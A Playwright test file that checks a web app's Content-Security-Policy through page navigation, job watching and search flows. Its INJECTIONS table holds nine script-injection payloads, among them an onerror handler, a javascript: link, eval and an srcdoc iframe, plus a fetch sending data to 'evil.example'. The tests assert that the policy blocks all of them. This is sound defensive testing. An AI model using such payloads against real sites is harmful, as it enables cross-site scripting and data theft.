/** The built page under the policy that it is served with: all of it works, and what somebody gets into it does not run. */

import { mkdir } from "node:fs/promises";
import { Card, expect, fetchUrl, prose, store, testOpenly, upload } from "./fixtures";
import { signsIn } from "./people";
import { Servers } from "./servers";

const test = testOpenly.extend<{ violations: string[] }, { servers: Servers }>({
  servers: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's needs from this very pattern
    async ({}, provide, { project }) => {
      const logs = `${project.outputDir}/security-${store}`;
      await mkdir(logs, { recursive: true });
      const servers = await Servers.start(logs, store === "memory" ? 1 : 2);
      await provide(servers);
      await servers.stop();
    },
    { scope: "worker" },
  ],
  baseURL: async ({ servers }, provide) => provide(servers.url),
  violations: async ({ page }, provide) => {
    const found: string[] = [];
    await page.exposeFunction("tellOfViolation", (what: string) => found.push(what));
    await page.addInitScript(() => {
      const tell = (globalThis as unknown as { tellOfViolation: (what: string) => void }).tellOfViolation;
      document.addEventListener("securitypolicyviolation", (event) => tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
    });
    page.on("pageerror", (error) => found.push(String(error)));
    await provide(found);
  },
});

test("every page works under the policy", async ({ page, violations }) => {
  const response = await page.goto("/");
  expect(response?.headers()["content-security-policy"]).toContain("script-src 'self'; style-src 'self'");
  if (signsIn) {
    const form = page.getByRole("form", { name: "Sign in" });
    await page.getByLabel("Name").fill("ada");
    await page.getByLabel("Password").fill("not the password");
    await form.getByRole("button", { name: "Sign in" }).click();
    await expect(form.getByRole("alert")).toContainText("wrong");
    expect(violations).toEqual([]);
    return;
  }
  const links = page.getByRole("navigation", { name: "Pages" }).getByRole("link");
  await expect(links).not.toHaveCount(0);
  for (const link of await links.all()) {
    await link.click();
    await expect(link).toHaveAttribute("aria-current", "page");
    await expect(page.getByRole("heading").first()).toBeVisible();
  }
  await page.getByRole("button", { name: /^Theme: / }).click();
  expect(violations).toEqual([]);
});

test.describe("with nobody to sign in", () => {
  test.skip(signsIn, "the pages are the same");

  for (const delivery of ["Stream", "Socket", "Poll"] as const) {
    test(`a job is watched under the policy (${delivery})`, async ({ page, source, violations }) => {
      const document = source.serve(`policy-${delivery}.txt`);
      await page.goto("/");
      await page.getByRole("radio", { name: delivery }).check();
      await fetchUrl(page, document.url);
      const card = Card.named(page, document.name);
      await expect(card.badge).toHaveText(delivery === "Poll" ? "Polling" : "Live");
      await document.end(prose(1_100_000));
      await card.ended("Completed");
      await card.link("on a page of its own").click();
      const only = Card.only(page);
      await expect(only.root).toHaveCount(1);
      await only.expectWhole();
      const [download] = await Promise.all([page.waitForEvent("download"), only.button("Download").click()]);
      expect(download.suggestedFilename()).toMatch(/\.log$/);
      expect(violations).toEqual([]);
    });
  }

  test("a draft is written, and a document is found, read and taken away under the policy", async ({ page, violations }) => {
    const word = `needle${crypto.randomUUID().slice(0, 8)}`;
    await page.goto("/");
    await upload(page, { name: `${word}.md`, buffer: `# The haystack\n\nIn all this hay there is one ${word}.\n` });
    await Card.named(page, `${word}.md`).ended("Completed");
    await page.getByRole("searchbox", { name: "Search the documents" }).fill(word);
    await expect(page.locator("mark")).toHaveText(word);
    await page.getByRole("region", { name: "Library" }).getByRole("link", { name: "The haystack", exact: true }).click();
    const link = page.getByRole("dialog").getByRole("link", { name: "Download the original" });
    await Promise.all([page.waitForEvent("download"), link.click()]);

    await page.goto("/#/generate");
    await page.getByLabel("Text").fill(`${word} stands on the coast. ${"It sends light out to sea, for ships to see. ".repeat(20)}`);
    await page.getByRole("button", { name: "Generate", exact: true }).click();
    const run = page.getByRole("article", { name: word });
    await expect(run.getByRole("region", { name: "Output of" })).toBeVisible();
    expect(violations).toEqual([]);
  });
});

/** Ways to get a script into a page: each sets `pwned` if it runs. */
const INJECTIONS: Record<string, () => void> = {
  "an inline script": () => {
    const script = document.createElement("script");
    script.append("globalThis.pwned = 1");
    document.body.append(script);
  },
  "a handler in the markup": () => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "globalThis.pwned = 1");
    image.src = "/api/nothing";
    document.body.append(image);
  },
  "markup as text": () => {
    document.body.innerHTML = "<img src=/api/nothing onerror='globalThis.pwned = 1'>";
  },
  "a link that is a script": () => {
    const link = document.createElement("a");
    link.href = "javascript:globalThis.pwned = 1";
    document.body.append(link);
    link.click();
  },
  "a script of another site": () => {
    const script = document.createElement("script");
    script.setAttribute("src", "data:text/javascript,globalThis.pwned = 1");
    document.head.append(script);
  },
  "code in a string": () => {
    globalThis.eval("globalThis.pwned = 1"); // oxlint-disable-line no-eval -- that is the point
  },
  "a frame with a page of its own": () => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", "<script>parent.pwned = 1</script>");
    document.body.append(frame);
  },
  "a style": () => {
    const style = document.createElement("style");
    style.append("body { --pwned: 1 }");
    document.body.append(style);
    if (getComputedStyle(document.body).getPropertyValue("--pwned") !== "") Object.assign(globalThis, { pwned: 1 });
  },
  "words to another site": () => {
    void fetch("https://evil.example/?words").catch(() => null);
  },
};

for (const [name, inject] of Object.entries(INJECTIONS)) {
  test(`what is injected does not run: ${name}`, async ({ page, violations }) => {
    await page.goto("/");
    await expect(page.getByRole("heading").first()).toBeVisible();
    expect(violations).toEqual([]);
    await page.evaluate(`setTimeout(${String(inject)})`); // later: what a debugger runs itself is under no policy
    await expect.poll(() => violations.join("; ")).toMatch(/(script|style|connect)-src|require-trusted-types-for/);
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  });
}

test("nginx adds nothing to the headers of the servers, and takes nothing away", async ({ request, servers }) => {
  for (const path of ["/", "/api/config", "/favicon.svg", "/nothing.js"]) {
    const [behind, own] = await Promise.all(
      ["", `http://${servers.addresses[0]}`].map(async (origin) => {
        const headers = (await request.get(`${origin}${path}`)).headersArray();
        return headers.filter(({ name }) => /^(content-security|cross-origin|permissions|referrer|strict|x-content|x-frame)/i.test(name));
      }),
    );
    expect(own).toHaveLength(7);
    expect(behind).toEqual(own);
  }
});
